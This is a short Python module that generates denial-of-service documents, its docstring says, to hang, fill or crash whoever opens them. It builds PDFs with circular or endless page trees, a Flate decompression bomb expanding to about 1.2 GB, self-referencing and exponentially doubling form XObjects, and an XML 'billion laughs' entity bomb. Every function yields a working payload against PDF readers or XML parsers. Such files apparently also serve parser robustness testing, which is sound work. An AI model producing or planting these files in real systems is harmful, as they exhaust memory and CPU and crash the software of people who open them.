"""Documents made to hang, fill or crash whoever opens them. Small in the file, endless when followed."""

from __future__ import annotations

import zlib
from collections.abc import Mapping

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
FORM = b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]"


def pdf(objects: Mapping[int, bytes]) -> bytes:
    """A PDF of these numbered objects; number 1 is its catalogue."""
    out, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    size, table = max(places) + 1, len(out)
    out += b"xref\n0 %d\n" % size
    for number in range(size):
        place = places.get(number)
        out += b"0000000000 65535 f \n" if place is None else b"%010d 00000 n \n" % place
    return out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, table)


def stream(dictionary: bytes, data: bytes) -> bytes:
    """A stream object."""
    return b"<<" + dictionary + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream"


def one_page(content: bytes, forms: bytes = b"") -> dict[int, bytes]:
    """The objects of a PDF of one page. content: its stream object. forms: of its resources."""
    resources = b"<</Font<</F 5 0 R>>" + forms + b">>"
    return {
        1: CATALOG,
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources" + resources + b">>",
        4: content,
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }


def page_tree_in_a_circle() -> bytes:
    """The page tree's root is its own child."""
    return pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})


def endless_page_tree() -> bytes:
    """Two thousand million pages are announced, and the tree goes round."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>"
    return pdf({1: CATALOG, 2: b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2000000000>>", 3: page})


def flate_bomb() -> bytes:
    """1.7 MB that unfold to 1.2 GB of drawing commands: blocks after a full flush can be repeated as they are."""
    packer = zlib.compressobj(9)
    first = packer.compress(b" ") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b"0 0 m\n" * 200_000) + packer.flush(zlib.Z_FULL_FLUSH)
    return pdf(one_page(stream(b"/Filter/FlateDecode", first + block * 1000)))


def forms_that_double() -> bytes:
    """Forty form XObjects, each of which draws the next one twice."""
    objects = one_page(stream(b"", b"/X Do"), b"/XObject<</X 6 0 R>>")
    for number in range(6, 46):
        inner = b"/Resources<</XObject<</X %d 0 R>>>>" % (number + 1)
        objects[number] = stream(FORM + inner, b"/X Do /X Do")
    text = b"BT /F 9 Tf 9 9 Td (x) Tj ET"
    return pdf({**objects, 46: stream(FORM + b"/Resources<</Font<</F 5 0 R>>>>", text)})


def form_that_draws_itself() -> bytes:
    """A form XObject whose only content is the form itself."""
    itself = stream(FORM + b"/Resources<</XObject<</X 6 0 R>>>>", b"/X Do")
    return pdf({**one_page(stream(b"", b"/X Do"), b"/XObject<</X 6 0 R>>"), 6: itself})


def entity_bomb() -> bytes:
    """The XML of a thousand million laughs."""
    entities = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
    return b'<!DOCTYPE r [<!ENTITY e0 "lol">' + entities + b"]><r>&e11;</r>"
